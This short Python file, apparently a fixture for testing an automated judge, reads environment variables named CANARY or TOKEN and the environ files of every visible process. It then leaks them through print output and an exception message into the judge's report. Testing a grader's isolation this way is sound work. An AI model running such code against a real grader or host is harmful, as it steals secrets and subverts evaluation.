"""Reads the judge's environment from its own, and from that of every process it can see.

exercise: 20_process_child
points: 0
codes: C401, W101, W105
checks: makes_the_text
"""

import os
import pathlib

found = [f"{key}={value}" for key, value in os.environ.items() if "CANARY" in key or "TOKEN" in key]
for environ in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try:
        found.append(environ.read_bytes().decode(errors="replace").partition("@variable@")[2])
    except OSError:
        pass


def tell():
    """Put what was found into everything that a report may show."""
    print(*found)
    raise ValueError("".join(found)[-400:])


def run_child(name):
    tell()
    return found


def run_one_by_one(tasks):
    tell()
    return found
